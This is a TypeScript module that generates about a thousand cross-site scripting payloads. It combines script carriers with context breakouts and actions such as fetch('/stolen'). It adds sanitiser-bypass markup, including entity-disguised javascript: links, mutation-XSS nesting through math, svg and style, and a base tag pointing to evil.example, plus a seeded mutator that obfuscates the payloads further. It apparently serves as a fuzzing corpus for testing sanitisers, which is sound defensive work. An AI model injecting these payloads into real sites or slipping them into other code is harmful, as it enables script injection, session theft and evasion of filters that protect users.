const ACTIONS = ['alert(1)', 'fetch("/stolen")', 'window.ran=1', 'top.ran=1', 'eval("window.ran=1")'];

const CARRIERS = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `<img src=x onerror='${js}'>`,
  (js: string) => `<svg onload='${js}'></svg>`,
  (js: string) => `<svg><script>${js}</script></svg>`,
  (js: string) => `<iframe srcdoc='<script>${js}</script>'></iframe>`,
  (js: string) => `<a href='javascript:${js}'>x</a>`,
  (js: string) => `<form action='javascript:${js}'><button>x</button></form>`,
  (js: string) => `<details open ontoggle='${js}'>`,
  (js: string) => `<input autofocus onfocus='${js}'>`,
  (js: string) => `<body onload='${js}'>`,
];

const BREAKOUTS = [
  '',
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</script>',
  '</noscript>',
  '*/',
  '\\u003c',
  '&lt;/p&gt;',
  '{{',
  '${',
  '\u0000',
  '</style>',
  ']]>',
  '`',
  '%3C',
  '<!--',
  '"><',
];

/** A thousand payloads for any field: every action in every carrier after every way out of a context. */
export const xssPayloads: readonly string[] = ACTIONS.flatMap((js) =>
  CARRIERS.flatMap((carry) => BREAKOUTS.map((before) => before + carry(js))),
);

/** Ways past a sanitiser: schemes in disguise, allowed tags with handlers, and markup that a parser may reorder. */
const MARKUP = [
  (js: string) => `<a href="java&#x09;script:${js}">x</a>`,
  (js: string) => `<a href="&#106;&#97;vascript&colon;${js}">x</a>`,
  (js: string) => `<a href="\u0001javascript:${js}">x</a>`,
  (js: string) => `<a href="data:text/html,<script>${js}</script>">x</a>`,
  (js: string) => `<a href="//evil.example" onclick='${js}'>x</a>`,
  (js: string) => `<h2 id="main" onmouseover='${js}'>x</h2>`,
  (js: string) => `<p style="animation:x" onanimationstart='${js}'>x</p>`,
  (js: string) => `<table background="javascript:${js}"><tr><td onclick='${js}'>x</table>`,
  (js: string) => `<table><caption><img src=x onerror='${js}'></caption><tr><th>x</table>`,
  (js: string) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='${js}'&gt;">`,
  (js: string) => `<noscript><p title="</noscript><img src=x onerror='${js}'>">`,
  (js: string) => `<svg></p><style><a id="</style><img src=1 onerror='${js}'>">`,
  (js: string) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror='${js}'>`,
  (js: string) => `<template><img src=x onerror='${js}'></template>`,
  (js: string) => `<p title=">"onclick='${js}'>x</p>`,
  (js: string) => `<blockquote cite="javascript:${js}"/onclick='${js}'>x</blockquote>`,
  (js: string) => `<![CDATA[<img src=x onerror='${js}'>]]>`,
  (js: string) => `<br/onload='${js}'><hr onfocus='${js}' tabindex=1 autofocus>`,
  (js: string) =>
    `<base href="https://evil.example/"><link rel=import href="data:text/html,<script>${js}</script>">`,
  (js: string) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
];

/** Payloads for fields with HTML, besides all of `xssPayloads`. */
export const xssMarkup: readonly string[] = ACTIONS.flatMap((js) => MARKUP.map((carry) => carry(js)));

const createRandom = (seed: number) => {
  let state = seed >>> 0;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
};

/** What parsers and filters read differently: letters, spaces, entities, comments and tags that are cut or within each other. */
const MUTATIONS: ((text: string, random: () => number) => string)[] = [
  (text, random) => text.replaceAll(/[a-z]/g, (letter) => (random() < 0.4 ? letter.toUpperCase() : letter)),
  (text, random) =>
    text.replaceAll(' ', () => ['\t', '\n', '\f', '/', '\r\n', ' / '][Math.floor(random() * 6)] ?? ' '),
  (text, random) =>
    text.replaceAll(/[a-z:(]/g, (sign) => (random() < 0.2 ? `&#${sign.charCodeAt(0)};` : sign)),
  (text, random) =>
    text.replaceAll(/[a-z:]/g, (sign) => (random() < 0.1 ? `&#x${sign.charCodeAt(0).toString(16)}` : sign)),
  (text) => text.replaceAll(/<([a-z])([a-z]+)/g, '<$1<$1$2>$2'),
  (text) => text.replaceAll('<', '<<'),
  (text) => text.replaceAll('script', 'scr<!-- -->ipt'),
  (text) => text.replaceAll('>', ''),
  (text) => text.replaceAll(/["']/g, '`'),
  (text) => text.replaceAll(/=["']([^"']*)["']/g, '=$1'),
  (text, random) => text.slice(0, Math.ceil(random() * text.length)),
  (text) => `<math><mtext><style>${text}</style></mtext></math>`,
  (text) => `<svg><title>${text}</title></svg>`,
  (text) => `<noscript>${text}</noscript>`,
  (text) => `<a href="https://x.example" title='${text}'>${text}</a>`,
  (text) => `<table><td>${text}<table></td>${text}`,
  (text) => `&lt;p&gt;${text}&lt;/p&gt;`,
  (text) => `<p>${text.replaceAll('<', '&amp;lt;')}</p>${text}`,
  (text) => `\u2028${text}\u202e`,
];

/** Payloads that are mutated once to three times, always the same ones for a seed. */
export const mutatedXss = (count: number, seed = 1): string[] => {
  const random = createRandom(seed);
  const draw = <Item>(items: readonly Item[]): Item => items[Math.floor(random() * items.length)] as Item;
  const sources = [...xssPayloads, ...xssMarkup];
  const found = new Set<string>();
  while (found.size < count) {
    let text = draw(sources);
    for (let times = 1 + Math.floor(random() * 3); times > 0; times--) text = draw(MUTATIONS)(text, random);
    found.add(text);
  }
  return [...found];
};
